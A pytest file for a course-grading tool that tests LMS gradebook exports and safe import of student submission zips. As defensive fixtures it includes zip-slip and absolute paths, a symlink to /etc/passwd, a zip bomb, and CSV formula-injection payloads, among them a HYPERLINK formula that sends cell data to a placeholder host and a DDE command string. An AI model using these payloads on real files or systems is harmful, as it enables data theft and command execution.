"""LMS exports (Canvas, Moodle, CSV), safe imports of bulk downloads, the Gradescope autograder zip."""

from __future__ import annotations

import csv
import stat
import json
import zipfile
from pathlib import Path

import pytest

from grader.results import GradeResult, QuestionResult, save_result
from grader.results import TestResult as Check


def fake_result(student: str, scores: tuple[float, float], q1: float | None = None) -> GradeResult:
    tests = [Check("log_standard_normal", "1.1", scores[0], 1.0, tags=["log_standard_normal"], check="log_standard_normal",
                        component="log_standard_normal"),
             Check("log_bernoulli", "2.1", scores[1], 1.5, tags=["log_bernoulli"], check="log_bernoulli",
                        component="log_bernoulli")]
    return GradeResult(student=student, assignment="vae", tests=tests, grader_version="0.1.0",
                       submission_hash="h" + student, graded_at="2026-11-22T22:50:00+00:00",
                       questions=[QuestionResult("Q1", "t", 1.0, "answer", q1)])


@pytest.fixture
def reports(tmp_path):
    out = tmp_path / "reports"
    save_result(fake_result("doejane", (1.0, 1.5), q1=1.0), out)
    save_result(fake_result("roejim", (0.0, 1.5)), out)
    roster = tmp_path / "roster.csv"
    roster.write_text("folder,name,id,sis_user_id,sis_login_id,section,email\n"
                      "doejane,Jane Doe,1001,S1001,jdoe,A,jane@example.edu\n"
                      "ghost,Nobody Here,1002,S1002,ghost,A,ghost@example.edu\n")
    return out, roster


def read_rows(path: Path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.reader(f))


def test_canvas_export(reports):
    from grader.lms import export_gradebook

    out, roster = reports
    warnings: list[str] = []
    path = export_gradebook(out, "canvas", roster, warnings=warnings)
    assert path.name == "canvas_grades.csv"
    rows = read_rows(path)
    assert rows[0] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "VAE with a mixture-of-Gaussians prior (vae)"]
    assert rows[1][0] == "Points Possible" and rows[1][-1] == "3.5"
    assert rows[2] == ["Jane Doe", "1001", "S1001", "jdoe", "A", "3.5"]
    assert rows[3][0] == "roejim" and rows[3][-1] == "1.5"
    assert any("roejim is not in the roster" in w for w in warnings)
    assert any("ghost" in w for w in warnings)


def test_moodle_and_csv_export(reports):
    from grader.lms import MOODLE_COLUMNS, export_gradebook

    out, roster = reports
    rows = read_rows(export_gradebook(out, "moodle", roster))
    assert rows[0] == ["Identifier", "Full name", "Email address", "Status", "Grade", "Maximum Grade",
                       "Grade can be changed", "Last modified (submission)", "Last modified (grade)", "Feedback comments"]
    assert rows[0] == MOODLE_COLUMNS
    jane = dict(zip(rows[0], rows[1]))
    assert jane["Identifier"] == "Participant 1001" and jane["Email address"] == "jane@example.edu"
    assert jane["Grade"] == "3.5" and jane["Maximum Grade"] == "3.5"
    rows = read_rows(export_gradebook(out, "csv", None))
    assert rows[0][:2] == ["student", "name"] and len(rows) == 3
    assert (out / "grades.csv").is_file()


def test_export_errors(tmp_path):
    from grader.lms import LmsError, export_gradebook

    with pytest.raises(LmsError, match="not a folder"):
        export_gradebook(tmp_path / "nope", "canvas")
    (tmp_path / "empty").mkdir()
    with pytest.raises(LmsError, match="grade the class first"):
        export_gradebook(tmp_path / "empty", "moodle")


def _add(zf: zipfile.ZipFile, name: str, data: bytes, date=(2026, 11, 1, 12, 0, 0), mode: int = 0o644 | stat.S_IFREG) -> None:
    info = zipfile.ZipInfo(name, date_time=date)
    info.external_attr = mode << 16
    info.compress_type = zipfile.ZIP_DEFLATED
    zf.writestr(info, data)


def test_canvas_import_is_safe(tmp_path):
    from grader.lms import import_archive

    archive = tmp_path / "canvas.zip"
    with zipfile.ZipFile(archive, "w") as zf:
        _add(zf, "doejane_1001_555_vae.py", b"# jane\n")
        _add(zf, "doejane_late_1001_556_answers.md", b"## Q1\nanswer\n")
        _add(zf, "smithjohn_1003_557_my_vae_model.py", b"# underscores\n")
        _add(zf, "roejim_1002_600_vae.py", b"# old\n", date=(2026, 11, 1, 9, 0, 0))
        _add(zf, "roejim_1002_601_vae-1.py", b"# new\n", date=(2026, 11, 2, 9, 0, 0))
        _add(zf, "../evil.py", b"import os\n")
        _add(zf, "/abs.py", b"import os\n")
        _add(zf, "linky_1_2_vae.py", b"/etc/passwd", mode=0o777 | stat.S_IFLNK)
        _add(zf, "bomb_1_2_big.bin", b"\0" * (20 * 1024 * 1024))
        _add(zf, "README.txt", b"not a submission")
    report = import_archive("canvas", archive, tmp_path / "class")
    root = tmp_path / "class"
    assert sorted(report.imported) == ["doejane_1001", "roejim_1002", "smithjohn_1003"]
    assert (root / "doejane_1001" / "vae.py").read_text() == "# jane\n"
    assert (root / "doejane_1001" / "answers.md").is_file()
    assert (root / "smithjohn_1003" / "my_vae_model.py").is_file()
    assert (root / "roejim_1002" / "vae.py").read_text() == "# new\n"  # the newer of the resubmissions
    reasons = dict(report.skipped)
    assert "zip-slip" in reasons["../evil.py"]
    assert "absolute" in reasons["/abs.py"]
    assert "symbolic link" in reasons["linky_1_2_vae.py"]
    assert "ratio" in reasons["bomb_1_2_big.bin"]
    assert "resubmission by the same LMS user (1002)" in reasons["roejim_1002_600_vae.py"]
    assert report.resubmitted == {"1002"}
    assert "pattern" in reasons["README.txt"]
    assert not (tmp_path / "evil.py").exists() and not Path("/abs.py").exists()
    assert sorted(p.name for p in root.iterdir()) == ["doejane_1001", "roejim_1002", "smithjohn_1003"]

    # never overwrite a student folder without force
    (root / "doejane_1001" / "vae.py").write_text("# edited by the instructor\n")
    again = import_archive("canvas", archive, root)
    assert not again.imported.get("doejane_1001")
    assert "already exists" in dict(again.skipped)["doejane_1001"]
    assert (root / "doejane_1001" / "vae.py").read_text() == "# edited by the instructor\n"
    forced = import_archive("canvas", archive, root, force=True)
    assert "doejane_1001" in forced.imported and (root / "doejane_1001" / "vae.py").read_text() == "# jane\n"


def test_moodle_import_and_archive_limits(tmp_path):
    from grader.lms import LmsError, import_archive

    archive = tmp_path / "moodle.zip"
    with zipfile.ZipFile(archive, "w") as zf:
        _add(zf, "Jane Doe_1001_assignsubmission_file_/vae.py", b"# jane\n")
        _add(zf, "Jane Doe_1001_assignsubmission_file_/extra/notes.md", b"notes\n")
        _add(zf, "Jim Roe_1002_assignsubmission_file_/vae.py", b"# jim\n")
        _add(zf, "Jim Roe_1002_assignsubmission_file_/../../escape.py", b"x\n")
        _add(zf, "stray.py", b"x\n")
    report = import_archive("moodle", archive, tmp_path / "class")
    assert sorted(report.imported) == ["Jane_Doe_1001", "Jim_Roe_1002"]
    assert (tmp_path / "class" / "Jane_Doe_1001" / "extra" / "notes.md").is_file()
    reasons = dict(report.skipped)
    assert "zip-slip" in reasons["Jim Roe_1002_assignsubmission_file_/../../escape.py"]
    assert "Moodle" in reasons["stray.py"]
    with pytest.raises(LmsError, match="zip bomb"):
        import_archive("moodle", archive, tmp_path / "c2", max_total_bytes=10)
    with pytest.raises(LmsError, match="entries"):
        import_archive("moodle", archive, tmp_path / "c3", max_entries=2)
    (tmp_path / "notzip.zip").write_text("hello")
    with pytest.raises(LmsError, match="not a zip"):
        import_archive("moodle", tmp_path / "notzip.zip", tmp_path / "c4")


def test_students_are_keyed_by_lms_user_id_never_by_name(tmp_path):
    from grader import lms
    from grader.lms import import_archive

    archive = tmp_path / "canvas.zip"
    with zipfile.ZipFile(archive, "w") as zf:
        _add(zf, "leenguyen_2001_700_vae.py", b"# first Lee Nguyen\n")
        _add(zf, "leenguyen_2002_701_vae.py", b"# second Lee Nguyen\n")  # same name, another student
        _add(zf, "le\u200benguyen_2003_702_vae.py", b"# zero-width space in the name\n")
        _add(zf, "ｌｅｅｎｇｕｙｅｎ_2004_703_vae.py", b"# full-width letters\n")
        _add(zf, "hoarder_2005_704_vae.py", b"# honest file\n")
        for i in range(3):
            _add(zf, f"hoarder_2005_704_junk{i}.bin", b"x" * 1024)
    old = lms.MAX_STUDENT_FILES
    lms.MAX_STUDENT_FILES = 3
    try:
        report = import_archive("canvas", archive, tmp_path / "class")
    finally:
        lms.MAX_STUDENT_FILES = old
    assert sorted(report.imported) == ["leenguyen_2001", "leenguyen_2002", "leenguyen_2003", "leenguyen_2004"]
    assert (tmp_path / "class" / "leenguyen_2002" / "vae.py").read_text() == "# second Lee Nguyen\n"
    assert not report.resubmitted
    assert "per student" in dict(report.skipped)["hoarder_2005"]  # the hoarder alone is left out


def test_cli_export_and_import(reports, tmp_path):
    from click.testing import CliRunner

    from grader.cli import main

    out, roster = reports
    r = CliRunner().invoke(main, ["export", "--format", "canvas", "--out", str(out), "--roster", str(roster)])
    assert r.exit_code == 0, r.output
    assert "roejim is not in the roster" in r.output
    r = CliRunner().invoke(main, ["export", "--format", "moodle", "--out", str(tmp_path / "none")])
    assert r.exit_code == 2
    r = CliRunner().invoke(main, ["import", "canvas", str(tmp_path / "missing.zip"), "--into", str(tmp_path / "c")])
    assert r.exit_code == 2 and "does not exist" in r.output


def test_gradescope_autograder_zip(tmp_path):
    from click.testing import CliRunner

    from grader.cli import main

    out = tmp_path / "autograder.zip"
    r = CliRunner().invoke(main, ["gradescope", "build", "--assignment", "vae", "--out", str(out)])
    assert r.exit_code == 0, r.output
    with zipfile.ZipFile(out) as zf:
        names = set(zf.namelist())
        run = zf.read("run_autograder").decode()
        assert stat.S_IMODE(zf.getinfo("run_autograder").external_attr >> 16) & 0o111
    for needed in ("setup.sh", "run_autograder", "gradekit/pyproject.toml", "gradekit/grader/engine.py",
                   "gradekit/reference/vae.py", "gradekit/rubrics/vae.toml", "gradekit/grader/checks/vae.py"):
        assert needed in names
    assert not any("__pycache__" in n for n in names)
    assert run.splitlines()[1].startswith("cd /autograder/source/gradekit && exec python3 -m grader.gradescope vae")
    r = CliRunner().invoke(main, ["gradescope", "build", "--assignment", "nope", "--out", str(out)])
    assert r.exit_code == 2 and "unknown assignment" in r.output


def test_gradescope_runner_writes_a_checked_result_itself(tmp_path):
    """The runner writes results.json from its own process: a zero result saying why when grading
    could not run, and never a score above the tests' maxima."""
    from grader.gradescope import run_autograder

    empty = tmp_path / "submission"
    empty.mkdir()
    written = run_autograder("vae", submission=empty, results_dir=tmp_path / "results", allow_unsandboxed=False,
                             kill_leftovers=False)
    on_disk = json.loads((tmp_path / "results" / "results.json").read_text())
    assert on_disk == written
    assert on_disk["score"] == sum(t["score"] for t in on_disk["tests"]) <= sum(t["max_score"] for t in on_disk["tests"])
    assert not list((tmp_path / "results").glob(".results.*"))


FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"y")', "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3", "\uff1dSUM(1)"]


def _assert_no_formula_cell(path: Path) -> list[list[str]]:
    from grader.fileio import FORMULA_STARTS

    rows = read_rows(path)
    for row in rows:
        for cell in row:
            try:
                float(cell)
                continue  # a number is never run
            except ValueError:
                assert not cell.startswith(FORMULA_STARTS), f"{path.name}: a spreadsheet runs {cell!r}"
    return rows


def test_student_names_never_reach_a_spreadsheet_as_formulas(tmp_path):
    """Folder names (LMS archive names) and roster names (students edit them in Moodle) land in the staff's
    CSVs: each is written with a leading apostrophe, the text otherwise intact; scores stay numbers."""
    from grader.batch import write_gradebook
    from grader.lms import export_gradebook

    out = tmp_path / "reports"
    folders = ["plain", "=1+1", "-cmd", "@x"]
    for name in folders:
        save_result(fake_result(name, (1.0, 0.5)), out)
    roster = tmp_path / "roster.csv"
    with open(roster, "w", newline="") as f:
        w = csv.writer(f)
        w.writerow(["folder", "name", "id", "email"])
        for i, (folder, name) in enumerate(zip(folders, FORMULAS)):
            w.writerow([folder, name, str(1000 + i), "a@example.edu"])
    gradebook = _assert_no_formula_cell(write_gradebook(out))
    assert sorted(r[0] for r in gradebook[1:]) == sorted(["plain", "'=1+1", "'-cmd", "'@x"])
    assert {r[2] for r in gradebook[1:]} == {"1.5"}
    canvas = _assert_no_formula_cell(export_gradebook(out, "canvas", roster))
    assert sorted(r[0] for r in canvas[2:]) == sorted("'" + n for n in FORMULAS[:4])
    assert {r[1] for r in canvas[2:]} == {"1000", "1001", "1002", "1003"} and {r[-1] for r in canvas[2:]} == {"1.5"}
    moodle = _assert_no_formula_cell(export_gradebook(out, "moodle", roster))
    assert {r[0] for r in moodle[1:]} == {f"Participant {1000 + i}" for i in range(4)}  # what Moodle matches on
    _assert_no_formula_cell(export_gradebook(out, "csv", roster))
